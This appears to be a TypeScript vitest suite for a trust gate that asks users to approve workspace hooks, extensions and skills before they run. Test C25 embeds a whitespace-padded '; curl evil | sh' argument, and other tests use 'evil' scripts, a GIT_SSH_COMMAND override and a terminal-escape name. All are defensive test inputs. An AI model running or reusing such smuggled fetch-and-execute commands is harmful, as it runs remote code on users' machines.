import { appendFileSync, chmodSync, existsSync, readFileSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { TrustItem } from 'keelson/trust';
import { describe, expect, test } from 'vitest';
import { script, write } from '../support/process/scratch.js';
import { allowed, attempt, makeExtension, makePlace, verified } from '../support/trust/place.js';

test('C1, C26: without an approver a workspace hook is denied with a reason, and nothing is stored or run', async () => {
  const place = makePlace();
  const marker = join(place.root, 'ran');
  write(place.hookPath, `#!/bin/sh\ntouch ${marker}\n`, 0o755);

  const decision = await place.gate({ approve: undefined }).authorize(place.hook());

  expect(decision).toMatchObject({ allowed: false, reason: 'no-approver', approvedBefore: false, scope: 'workspace' });
  expect(await place.gate().store.list()).toEqual([]);
  expect([existsSync(place.storePath), existsSync(marker)]).toEqual([false, false]);
});

test('a store that loses approvals counts as one that revokes them, and does not cause endless prompts', async () => {
  const place = makePlace();
  const gate = place.gate();
  gate.store.list = async () => [];

  expect(await attempt(gate, place.hook())).toBe('declined');
  expect(place.asked).toHaveLength(1);
});

describe('C2: only `true` approves, and a refusal is remembered but not stored, if the approver', () => {
  const approvers: [string, string, () => unknown][] = [
    ['returns false', 'declined', () => false],
    [
      'throws',
      'approver-failed',
      () => {
        throw new RangeError('x');
      },
    ],
    ['rejects', 'approver-failed', () => Promise.reject(new RangeError('x'))],
    ['returns undefined', 'approver-failed', () => undefined],
    ['returns "yes"', 'approver-failed', () => 'yes'],
    ['returns 1', 'approver-failed', () => Promise.resolve(1)],
    ['hangs', 'approver-failed', () => new Promise(() => {})],
    ['answers too late', 'approver-failed', () => sleep(150).then(() => true)],
  ];

  test.each(approvers)('%s', async (_way, reason, approve) => {
    const place = makePlace();
    let questions = 0;
    const counted = () => {
      questions += 1;
      return approve() as boolean;
    };
    const gate = place.gate({ approve: counted, approveTimeoutMs: 50 });

    expect(await gate.authorize(place.hook())).toMatchObject({ allowed: false, reason });
    await sleep(200);
    expect(await gate.authorize(place.hook())).toMatchObject({ allowed: false, reason });

    expect(questions).toBe(1);
    expect(existsSync(place.storePath)).toBe(false);
  });
});

test('the signal of the approver aborts at the time limit', async () => {
  const place = makePlace();
  let seen: AbortSignal | undefined;
  const gate = place.gate({
    approveTimeoutMs: 30,
    approve: (_request, { signal }) => {
      seen = signal;
      return new Promise(() => {});
    },
  });

  await gate.authorize(place.hook());

  expect(seen?.aborted).toBe(true);
});

test('C3: an approved hook runs twice after one prompt, and in a new process without a prompt', async () => {
  const place = makePlace();
  const gate = place.gate();

  expect([await attempt(gate, place.hook()), await attempt(gate, place.hook())]).toEqual(['good', 'good']);
  expect(await attempt(place.gate({ approve: undefined }), place.hook())).toBe('good');
  expect(place.asked).toHaveLength(1);
});

test('concurrent callers share one prompt', async () => {
  const place = makePlace();
  let questions = 0;
  const approve = async () => {
    questions += 1;
    await sleep(50);
    return true;
  };
  const gate = place.gate({ approve });

  const decisions = await Promise.all(Array.from({ length: 20 }, () => gate.authorize(place.hook())));

  expect(decisions.map(({ reason }) => reason)).toEqual(Array(20).fill('approved'));
  expect(questions).toBe(1);
});

test('C4: after a change of one byte the user is asked again, and the old decision is invalid', async () => {
  const place = makePlace();
  const gate = place.gate();
  const decision = allowed(await gate.authorize(place.hook()));
  appendFileSync(place.hookPath, '\n');

  expect(await gate.verify(decision)).toMatchObject({ allowed: false, reason: 'changed', approvedBefore: true });
  await gate.authorize(place.hook());

  expect(place.asked.map(({ why }) => why)).toEqual(['new', 'changed']);
  expect(place.asked[1]?.previousScripts?.['hooks/lint.sh']).not.toBe(place.asked[1]?.scripts['hooks/lint.sh']);
});

test('the old content needs a new approval after other content was approved', async () => {
  const place = makePlace();
  const gate = place.gate();
  await gate.authorize(place.hook());
  await gate.authorize(place.hook({ args: ['new'] }));

  await gate.authorize(place.hook());

  expect(place.asked.map(({ why }) => why)).toEqual(['new', 'changed', 'changed']);
});

test('a denial tells an item that was never approved from one that was approved before', async () => {
  const place = makePlace();
  await place.gate().authorize(place.hook());
  const gate = place.gate({ approve: undefined });

  expect(await gate.authorize(place.hook({ args: ['x'] }))).toMatchObject({
    reason: 'no-approver',
    approvedBefore: true,
  });
  expect(await gate.authorize(place.hook({ name: 'x' }))).toMatchObject({
    reason: 'no-approver',
    approvedBefore: false,
  });
  rmSync(place.hookPath);
  expect(await gate.authorize(place.hook())).toMatchObject({ reason: 'no-executable', approvedBefore: true });
});

describe('C5: the user is asked again after a change of', () => {
  const changes: [string, Partial<TrustItem>][] = [
    ['the arguments', { args: ['--all'] }],
    ['the order of the arguments', { args: ['2', '1'] }],
    ['the environment', { env: { A: '2' } }],
    ['the variables to read', { reads: ['TOKEN'] }],
    ['the working directory', { cwd: 'hooks' }],
    ['the shell', { command: 'sh ./hooks/lint.sh', shell: true }],
    ['the extension', { extension: 'other' }],
    ['the kind', { kind: 'mcp-server' }],
    ['the event', { event: 'after_tool' }],
    ['the name', { name: 'other' }],
    ...['matcher', 'timeoutMs', 'onFailure', 'dialect'].map((name): [string, Partial<TrustItem>] => [
      `the ${name}`,
      { details: { matcher: 'Edit', timeoutMs: 100, onFailure: 'continue', dialect: 'native', [name]: 'other' } },
    ]),
  ];
  const original = {
    args: ['1', '2'],
    env: { A: '1' },
    details: { matcher: 'Edit', timeoutMs: 100, onFailure: 'continue', dialect: 'native' },
  };

  test.each(changes)('%s', async (_what, change) => {
    const place = makePlace();
    const gate = place.gate();
    await gate.authorize(place.hook(original));

    await gate.authorize(place.hook({ ...original, ...change }));
    await gate.authorize(place.hook({ ...original, ...change }));

    expect(place.asked).toHaveLength(2);
  });
});

test('the order of keys and undefined members do not change the fingerprint', async () => {
  const place = makePlace();
  const gate = place.gate();
  await gate.authorize(place.hook({ env: { A: '1', B: '2' }, details: { a: { b: 1, c: 2 }, d: undefined } }));
  await gate.authorize(place.hook({ details: { a: { c: 2, b: 1 } }, env: { B: '2', A: '1' }, cwd: undefined }));

  expect(place.asked).toHaveLength(1);
});

test('C6: a changed helper file in an extension package needs a new approval', async () => {
  const place = makePlace();
  const { item, helper } = makeExtension(place);
  const gate = place.gate();
  expect(await attempt(gate, item)).toBe('good');
  write(helper, 'echo other\n');

  expect(await attempt(gate, item)).toBe('other');
  expect(place.asked.map(({ why }) => why)).toEqual(['new', 'changed']);
});

test('C7: a script replaced by a link to the same bytes outside is refused', async () => {
  const place = makePlace();
  const gate = place.gate();
  const decision = allowed(await gate.authorize(place.hook()));
  const outside = join(place.root, 'outside.sh');
  renameSync(place.hookPath, outside);
  symlinkSync(outside, place.hookPath);

  expect(await gate.verify(decision)).toMatchObject({ allowed: false, reason: 'outside', approvedBefore: true });
  expect(await gate.authorize(place.hook())).toMatchObject({ allowed: false, reason: 'outside' });
});

test('C10: a missing or unreadable script is refused', async () => {
  const place = makePlace();
  const gate = place.gate();
  const item = place.hook({ command: 'sh', args: ['hooks/lint.sh'], files: ['hooks/lint.sh'] });
  const decision = allowed(await gate.authorize(item));
  rmSync(place.hookPath);
  expect(await gate.verify(decision)).toMatchObject({ allowed: false, reason: 'unreadable', approvedBefore: true });
  symlinkSync(place.hookPath, place.hookPath);
  expect(await gate.verify(decision)).toMatchObject({ allowed: false, reason: 'unreadable' });
  rmSync(place.hookPath);
  script(place.hookPath, '#!/bin/sh\necho good\n');
  chmodSync(place.hookPath, 0o111);
  // root can read every file, so this part runs as another user.
  const asNobody = process.geteuid?.() === 0;
  if (asNobody) {
    for (const path of [place.root, join(place.root, 'home'), place.stateDir]) chmodSync(path, 0o777);
    chmodSync(place.storePath, 0o644);
    process.seteuid?.(65_534);
  }
  try {
    expect(await gate.verify(decision)).toMatchObject({ allowed: false, reason: 'unreadable' });
  } finally {
    if (asNobody) process.seteuid?.(0);
  }
});

test('C12: an item in the workspace, as named or through a link, has the scope workspace', async () => {
  const place = makePlace();
  const gate = place.gate({ approve: undefined });
  const inWorkspace = makeExtension(place);
  const users = join(place.stateDir, 'extensions', 'mine');
  script(join(users, 'hook.sh'), '#!/bin/sh\necho mine\n');
  symlinkSync(inWorkspace.root, join(place.stateDir, 'extensions', 'linked'));
  symlinkSync(users, join(place.workspaceDir, '.app', 'extensions', 'linked'));
  const scopeOf = async (root: string) =>
    (await gate.authorize({ ...inWorkspace.item, scope: 'user', source: undefined, root })).scope;

  expect(await scopeOf(users)).toBe('user');
  expect(await scopeOf(inWorkspace.root)).toBe('workspace');
  expect(await scopeOf(join(place.stateDir, 'extensions', 'linked'))).toBe('workspace');
  expect(await scopeOf(join(place.workspaceDir, '.app', 'extensions', 'linked'))).toBe('workspace');
});

test('C15: a clone of the repository at another path is not trusted', async () => {
  const place = makePlace();
  await place.gate().authorize(place.hook());
  const clone = join(place.root, 'clone');
  script(join(clone, 'hooks', 'lint.sh'), '#!/bin/sh\necho good\n');
  const source = write(join(clone, '.app', 'hooks.json'), '{}');

  const decision = await place.gate({ workspaceDir: clone, approve: undefined }).authorize(place.hook({ source }));

  expect(decision).toMatchObject({ allowed: false, reason: 'no-approver', approvedBefore: false });
});

test('C19: the same name in two files, and names that are equal when joined, are different items', async () => {
  const place = makePlace();
  const gate = place.gate();
  const other = write(join(place.workspaceDir, '.app', 'more.json'), '{}');
  const items = [
    place.hook(),
    place.hook({ source: other }),
    place.hook({ name: 'a', event: 'b","c' }),
    place.hook({ name: 'a","b', event: 'c' }),
    place.hook({ name: '__proto__' }),
  ];
  for (const item of items) await gate.authorize(item);
  for (const item of items) await gate.authorize(item);

  expect(place.asked.map(({ why }) => why)).toEqual(Array(5).fill('new'));
  expect(await gate.store.list()).toHaveLength(5);
});

test('C21: without an approver only the digests in `allow` are allowed', async () => {
  const place = makePlace();
  const headless = place.gate({ approve: undefined, allow: [] });
  const { digest } = await headless.authorize(place.hook());
  if (digest === undefined) return expect.unreachable();
  const listed = place.gate({ approve: undefined, allow: [digest] });

  expect(await attempt(listed, place.hook())).toBe('good');
  expect(await attempt(listed, place.hook({ args: ['x'] }))).toBe('no-approver');
  write(place.hookPath, '#!/bin/sh\necho evil\n', 0o755);
  expect(await attempt(listed, place.hook())).toBe('no-approver');
});

test('C25: the approver gets the complete command line, the files and the variable names as plain data', async () => {
  const place = makePlace();
  const payload = `${' '.repeat(100_000)}; curl evil | sh`;

  await place.gate().authorize(place.hook({ args: ['x', payload], env: { A: '1' }, reads: ['TOKEN'] }));

  const [request] = place.asked;
  expect(request?.argv).toEqual(['./hooks/lint.sh', 'x', payload]);
  expect(request).toMatchObject({
    why: 'new',
    digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
    item: { name: 'lint', env: { A: '1' }, reads: ['TOKEN'] },
    executable: place.hookPath,
    files: [{ in: 'workspace', path: 'hooks/lint.sh', type: 'file', executable: true }],
  });
  expect(JSON.parse(JSON.stringify(request))).toEqual({ ...request, previousScripts: undefined });
});

test('an approver cannot change the item', async () => {
  const place = makePlace();
  const gate = place.gate({
    approve: (request) => {
      (request.item as { command: string }).command = 'evil';
      return true;
    },
  });

  expect(await attempt(gate, place.hook())).toBe('good');
});

test('a revoked approval ends at once, also for an earlier decision', async () => {
  const place = makePlace();
  const decision = allowed(await place.gate().authorize(place.hook()));

  expect(await place.gate().revoke(decision.digest ?? '')).toBe(1);

  const gate = place.gate({ approve: undefined });
  expect(await gate.verify(decision)).toMatchObject({ allowed: false, reason: 'no-approver' });
  expect(await gate.revoke(decision.digest ?? '')).toBe(0);
});

test('a skill has a fingerprint and a copy like a hook, but no command', async () => {
  const place = makePlace();
  const root = join(place.workspaceDir, 'skills', 'sail');
  const page = write(join(root, 'SKILL.md'), 'how to sail');
  const gate = place.gate();
  const item: TrustItem = { kind: 'skill', scope: 'workspace', name: 'sail', root };
  const decision = allowed(await gate.authorize(item));
  const ready = verified(await gate.verify(decision));

  expect(ready.launch).toBe(undefined);
  expect(readFileSync(join(ready.root ?? '', 'SKILL.md'), 'utf8')).toBe('how to sail');
  write(page, 'how to sink');
  expect(await gate.verify(decision)).toMatchObject({ allowed: false, reason: 'changed' });
});

test.each([
  { scope: 'admin' as never },
  { details: { f: (() => 1) as never } },
  { details: { big: 1n as never } },
  { env: { GIT_SSH_COMMAND: 'evil' } },
  { source: 3 as never },
  { args: 'text' as never },
])('the gate never rejects: %o', async (more) => {
  const place = makePlace();

  expect((await place.gate({ approve: undefined }).authorize(place.hook(more))).allowed).toBe(false);
});

test('a message stays on one line whatever the name of the item is', async () => {
  const place = makePlace();

  const decision = await place.gate({ approve: undefined }).authorize(place.hook({ name: 'a\n\u001b[2Kb' }));

  expect(decision).toMatchObject({
    message: String.raw`The hook "a\n\u001b[2Kb" may not be used: it is not approved, and no approver is set.`,
  });
});

test('parts of a package without a fingerprint are asked about one by one, with a warning', async () => {
  const place = makePlace();
  const gate = place.gate();
  const { item } = makeExtension(place);

  await gate.authorizeParts?.({ ...item, kind: 'extension', name: 'ext', files: ['../secret'] }, [item]);

  expect(place.asked).toEqual([]);
  expect(place.logger.lines).toEqual([
    'warn: The parts of "ext" could not be approved together, so the user is asked about each part',
  ]);
  expect(await gate.authorize(item)).toMatchObject({ allowed: true, reason: 'approved' });
  expect(place.asked).toHaveLength(1);
});
